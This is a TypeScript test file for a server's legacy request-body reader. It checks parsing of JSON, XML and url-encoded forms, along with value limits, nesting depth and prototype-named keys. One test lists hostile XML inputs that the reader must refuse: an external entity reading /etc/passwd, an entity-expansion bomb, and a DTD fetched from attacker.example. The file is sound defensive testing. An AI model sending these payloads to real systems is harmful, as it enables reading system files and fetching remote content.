import t from 'tap';
import { formatOf, readLegacyForm, type LegacyFormat } from '../../../host/legacy-content/legacy-body.js';

/** The members of a body, read here and now within the default limit. */
const membersOf = (format: LegacyFormat, text: string) => readLegacyForm(format, text, 1000).form;

t.test('formats by media type', async (t) => {
  t.equal(formatOf('application/json'), 'json');
  t.equal(formatOf('application/xml'), 'xml');
  t.equal(formatOf('text/xml'), 'xml');
  t.equal(formatOf('application/x-www-form-urlencoded'), 'urlencoded');
  t.equal(formatOf('text/plain'), undefined);
});

t.test('XML: one child of <content> per member; predefined entities and character references decoded', async (t) => {
  t.same(membersOf('xml', '<content><a>Fish &amp; Chips &#233;&#x263A;</a><b/><c>1</c><c>2</c></content>'), {
    a: 'Fish & Chips é☺',
    b: '',
    c: ['1', '2'],
  });
  t.same(membersOf('xml', '<?xml version="1.0"?><content></content>'), {}, 'a declaration and no member');
  t.same(membersOf('xml', '<content><a x="1">v</a></content>'), { a: 'v' }, 'attributes ignored');
});

t.test('XML that could reach files, the network or memory is refused before parsing', async (t) => {
  const attacks = [
    '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]><content><a>&x;</a></content>',
    '<!DOCTYPE c [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><content><a>&b;</a></content>',
    '<!doctype content SYSTEM "http://attacker.example/x.dtd"><content/>',
  ];
  for (const text of attacks) t.throws(() => membersOf('xml', text), { code: 'LEGACY_XML_UNREADABLE' });
  t.same(membersOf('xml', '<content><a>&x;</a></content>').a, '&x;', 'an undeclared entity is left as text');
});

t.test('XML that is not well-formed, or not <content>, could not be read', async (t) => {
  for (const text of [
    '<content><a></content>',
    '<other><a>1</a></other>',
    'plain',
    '<content><a><b>1</b></a></content>',
  ]) {
    t.throws(() => membersOf('xml', text), {
      code: 'LEGACY_XML_UNREADABLE',
      message: /The XML could not be read/,
    });
  }
});

t.test('JSON must be one object', async (t) => {
  t.same(membersOf('json', '{"a":"1","n":2}'), { a: '1', n: 2 });
  for (const text of ['[]', '"x"', '3', 'null'])
    t.throws(() => membersOf('json', text), { code: 'LEGACY_BODY_NOT_OBJECT' });
  t.throws(() => membersOf('json', '{'), { code: 'HTTP_BODY_INVALID_JSON' });
});

t.test('url-encoded: + is a space, a repeated key is a list', async (t) => {
  t.same(membersOf('urlencoded', 'a=1+2&b=%C3%A9&a=3&flag'), { a: ['1 2', '3'], b: 'é', flag: '' });
});

/** How many steps array iteration takes while `work` runs (copying a list by spreading it steps through it). */
function arraySteps(work: () => void): number {
  const original = Array.prototype[Symbol.iterator];
  let steps = 0;
  Array.prototype[Symbol.iterator] = function (this: unknown[]) {
    const inner = original.call(this);
    return Object.assign(Object.create(Object.getPrototypeOf(inner)), {
      next: () => {
        steps++;
        return inner.next();
      },
    });
  } as typeof original;
  try {
    work();
  } finally {
    Array.prototype[Symbol.iterator] = original;
  }
  return steps;
}

t.test('a key repeated n times is read in work linear in n (it was copied once per value)', async (t) => {
  const body = (n: number) => Array.from({ length: n }, (_, i) => `a=${i}`).join('&');
  const steps = (n: number) => arraySteps(() => readLegacyForm('urlencoded', body(n), n));
  const [small, large] = [steps(2000), steps(4000)];
  t.ok(large <= 2 * small + 10, `2000 keys: ${small} steps, 4000 keys: ${large}`);
  const read = readLegacyForm('urlencoded', body(50_000), 50_000);
  t.equal((read.form.a as string[]).length, 50_000);
  t.equal(read.values, 50_000);
});

t.test('each format refuses more values than allowed, and counts what it read', async (t) => {
  const limit = { code: 'LEGACY_BODY_TOO_MANY_VALUES', message: /more than 3 values/ };
  t.throws(() => readLegacyForm('urlencoded', 'a=1&a=2&b=3&c=4', 3), limit);
  t.same(
    readLegacyForm('urlencoded', 'a=1&&a=2&b=3&', 3),
    { form: { a: ['1', '2'], b: '3' }, values: 3 },
    'empty pairs skipped',
  );
  t.throws(() => readLegacyForm('json', '{"a":1,"b":[1,2]}', 3), limit, 'array items count');
  t.throws(() => readLegacyForm('json', '{"a":{"b":{"c":1,"d":2}}}', 3), limit, 'members at any depth count');
  t.equal(readLegacyForm('json', '{"a":[1,2],"b":"x"}', 4).values, 4);
  t.throws(() => readLegacyForm('xml', '<content><a>1</a><a>2</a><b/><c/></content>', 3), limit);
  t.equal(readLegacyForm('xml', '<content><a>1</a><a>2</a><b/></content>', 3).values, 3);
  t.throws(() => readLegacyForm('json', `{"a":${'['.repeat(65)}${']'.repeat(65)}}`, 1000), {
    code: 'HTTP_BODY_TOO_DEEP',
  });
});

t.test('XML: the shape is checked before parsing; comments, CDATA and quoted ">" are not elements', async (t) => {
  const unreadable = (problem: RegExp) => ({ code: 'LEGACY_XML_UNREADABLE', message: problem });
  for (const depth of [3, 101, 100_000]) {
    const deep = `<content>${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</content>`;
    t.throws(() => readLegacyForm('xml', deep, 1000), unreadable(/nest deeper/), `${depth} deep`);
  }
  t.throws(
    () => readLegacyForm('xml', `<content><a${' '.repeat(2000)}>1</a></content>`, 1000),
    unreadable(/longer than 1024/),
  );
  t.throws(() => readLegacyForm('xml', '<content></a></a></content>', 1000), unreadable(/no opening tag/));
  t.throws(() => readLegacyForm('xml', `<content>${'<'.repeat(100_000)}</content>`, 1000), unreadable(/holds "<"/));
  const html = '<p>' + '<b>x</b>'.repeat(5000) + '</p>';
  t.same(
    readLegacyForm('xml', `<content><!-- ${html} --><body><![CDATA[${html}]]></body><t note="a>b">1</t></content>`, 3)
      .form,
    { body: html, t: '1' },
  );
});

t.test('member names that are names of Object members are members like any other', async (t) => {
  const form = readLegacyForm('urlencoded', '__proto__=1&__proto__=2&constructor=c&toString=s&toString=t', 10).form;
  t.same(Object.keys(form).sort(), ['__proto__', 'constructor', 'toString']);
  t.same(form.__proto__, ['1', '2']);
  t.same(form.toString, ['s', 't']);
  t.equal(Object.getPrototypeOf(form), Object.prototype);
});
